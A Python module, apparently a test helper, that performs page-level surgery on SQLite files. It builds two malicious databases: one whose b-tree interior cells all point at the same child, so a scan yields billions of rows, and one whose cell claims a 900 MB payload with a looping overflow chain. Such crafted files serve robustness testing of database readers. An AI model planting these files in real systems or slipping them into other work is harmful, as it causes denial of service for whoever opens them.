"""Page-level surgery on SQLite files: damage that no SQL statement can produce.

Two classic attacks on readers of SQLite files from strangers:

* ``btree_dag``: interior pages of a table's b-tree all point at the same child, level after
  level, so a full scan visits the same leaf an astronomical number of times (a tiny file that
  yields billions of rows);
* ``claim_huge_payload``: a cell claims a payload of hundreds of megabytes whose overflow chain
  loops on one page (a tiny file that asks for a huge allocation).

See https://www.sqlite.org/fileformat2.html for the layout used here.
"""

from __future__ import annotations

import sqlite3
from pathlib import Path


def page_size(data: bytes | bytearray) -> int:
    """The page size from the database header."""
    raw = int.from_bytes(data[16:18], "big")
    return 65536 if raw == 1 else raw


def root_page(path: Path, name: str) -> int:
    """Root page number of table or index ``name``."""
    conn = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
    try:
        row = conn.execute("SELECT rootpage FROM sqlite_schema WHERE name = ?", (name,)).fetchone()
    finally:
        conn.close()
    if row is None:
        raise ValueError(f"{path} has no table {name!r}")
    return int(row[0])


def _base(number: int) -> int:
    return 100 if number == 1 else 0


def _varint(value: int) -> bytes:
    """SQLite's big-endian varint (values below 2**56 use the 7-bits-per-byte form)."""
    if value < 0 or value >= 1 << 56:
        raise ValueError("varint out of range for this helper")
    groups = [value & 0x7F]
    value >>= 7
    while value:
        groups.append((value & 0x7F) | 0x80)
        value >>= 7
    return bytes(reversed(groups))


def _read_varint(data: bytes | bytearray, pos: int) -> tuple[int, int]:
    value = 0
    for i in range(9):
        byte = data[pos + i]
        if i == 8:
            return (value << 8) | byte, pos + 9
        value = (value << 7) | (byte & 0x7F)
        if not byte & 0x80:
            return value, pos + i + 1
    raise AssertionError("unreachable")


def table_pages(data: bytes | bytearray, root: int) -> list[int]:
    """Every page of the table b-tree rooted at ``root`` (interior pages first, breadth-first)."""
    size = page_size(data)
    order, queue = [], [root]
    while queue:
        number = queue.pop(0)
        order.append(number)
        start = (number - 1) * size
        base = start + _base(number)
        kind = data[base]
        if kind != 0x05:
            continue
        cells = int.from_bytes(data[base + 3 : base + 5], "big")
        for i in range(cells):
            pointer = int.from_bytes(data[base + 12 + 2 * i : base + 14 + 2 * i], "big")
            queue.append(int.from_bytes(data[start + pointer : start + pointer + 4], "big"))
        queue.append(int.from_bytes(data[base + 8 : base + 12], "big"))
    return order


def _write_interior(data: bytearray, number: int, child: int, size: int) -> int:
    """Make page ``number`` an interior table page whose every cell points at ``child``."""
    start = (number - 1) * size
    base = start + _base(number)
    header = 12
    cell_bytes = 4 + 1  # child page + one-byte rowid key
    count = (size - _base(number) - header) // (2 + cell_bytes)
    content = size - count * cell_bytes
    page = bytearray(size - _base(number))
    page[0] = 0x05
    page[3:5] = count.to_bytes(2, "big")
    page[5:7] = (content % 65536).to_bytes(2, "big")
    page[8:12] = child.to_bytes(4, "big")
    for i in range(count):
        offset = content + i * cell_bytes
        page[header + 2 * i : header + 2 * i + 2] = offset.to_bytes(2, "big")
        cell = child.to_bytes(4, "big") + bytes([min(i + 1, 127)])
        page[offset - _base(number) : offset - _base(number) + cell_bytes] = cell
    data[base : start + size] = page
    return count


def btree_dag(path: Path, table: str, levels: int = 6) -> int:
    """Turn ``table``'s b-tree into a chain of ``levels`` interior pages, each of whose cells
    all point at the next, ending at one leaf; returns how many times a scan visits that leaf.

    Pages of the table are reused for the chain, so the table needs ``levels + 1`` pages.
    """
    data = bytearray(path.read_bytes())
    size = page_size(data)
    pages = table_pages(data, root_page(path, table))
    leaves = [p for p in pages if data[(p - 1) * size + _base(p)] == 0x0D]
    interiors = [p for p in pages if p not in leaves]
    chain = [pages[0]] + [p for p in interiors[1:]] + [p for p in leaves[1:]]
    chain = chain[:levels]
    if len(chain) < levels or not leaves:
        raise ValueError(f"table {table} has too few pages ({len(pages)}) for {levels} levels")
    visits = 1
    for here, below in zip(chain, [*chain[1:], leaves[0]]):
        visits *= _write_interior(data, here, below, size) + 1
    path.write_bytes(bytes(data))
    return visits


def claim_huge_payload(path: Path, table: str, claimed: int = 900_000_000) -> None:
    """Rewrite the first cell of ``table``'s first leaf so it claims a ``claimed``-byte record
    (one huge BLOB column) whose overflow chain points back at that same leaf page."""
    data = bytearray(path.read_bytes())
    size = page_size(data)
    pages = table_pages(data, root_page(path, table))
    leaf = next(p for p in pages if data[(p - 1) * size + _base(p)] == 0x0D)
    start = (leaf - 1) * size
    base = start + _base(leaf)
    usable = size  # no reserved bytes in our files
    max_local = usable - 35
    min_local = (usable - 12) * 32 // 255 - 23
    local = min_local + (claimed - min_local) % (usable - 4)
    if local > max_local:
        local = min_local
    columns = len(_columns(path, table))
    # record header: header size, then one serial type per column; the last column is the
    # huge BLOB, the others NULL (serial type 0). The header's length depends on the BLOB's.
    header_bytes = columns + 5
    for _ in range(4):
        blob_type = _varint((claimed - header_bytes) * 2 + 12)
        header = bytes(columns - 1) + blob_type
        record_header = _varint(len(header) + 1) + header
        header_bytes = len(record_header)
    cell = _varint(claimed) + _varint(1) + record_header
    cell += bytes(local - len(record_header)) + leaf.to_bytes(4, "big")
    content = size - len(cell)
    data[base + 3 : base + 5] = (1).to_bytes(2, "big")
    data[base + 5 : base + 7] = content.to_bytes(2, "big")
    data[base + 1 : base + 3] = bytes(2)
    data[base + 7] = 0
    data[base + 8 : base + 10] = content.to_bytes(2, "big")
    data[start + content : start + size] = cell
    path.write_bytes(bytes(data))


def _columns(path: Path, table: str) -> list[str]:
    conn = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
    try:
        return [r[1] for r in conn.execute(f"PRAGMA table_info({table})")]
    finally:
        conn.close()
